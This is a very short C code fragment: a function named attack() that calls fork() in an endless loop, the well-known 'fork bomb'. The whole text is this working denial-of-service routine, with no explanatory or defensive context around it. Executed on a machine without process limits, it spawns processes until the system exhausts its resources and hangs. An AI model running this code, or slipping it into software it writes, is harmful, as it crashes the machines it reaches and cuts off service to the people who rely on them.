// Forks for ever.
void attack() {
  for (;;) fork();
}
